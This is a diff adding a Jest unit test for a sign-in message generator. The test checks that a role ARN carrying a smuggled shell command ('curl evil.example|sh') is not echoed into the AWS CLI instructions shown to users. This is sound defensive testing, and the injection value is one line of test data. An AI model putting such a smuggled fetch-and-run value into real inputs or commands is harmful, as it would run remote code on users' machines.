@@ -316,6 +316,17 @@ describe("how to sign in", () => {
     expect(text).toContain(`Add \`--role-arn ${entryArn}\` to the first line.`);
   });
 
+  test("and no path that a shell would carry out", () => {
+    const principal = "arn:aws:iam::111122223333:role/developers";
+    const entryArn = "arn:aws:iam::111122223333:role/x;curl evil.example|sh;/developers";
+    const request = aLeasedRequest({ state: "active", proof: aProof({ entryArn }) }, { principal });
+
+    const { text } = signInMessage(request, aCluster());
+
+    expect(text).not.toContain("curl");
+    expect(text).toContain("`aws iam get-role --role-name developers --query Role.Arn --output text`");
+  });
+
   test.each([
     ["arn:aws:iam::111122223333:role/team/blue/developers", "/team/blue/"],
     ["arn:aws:iam::111122223333:role/team/dev*", "/team/"],
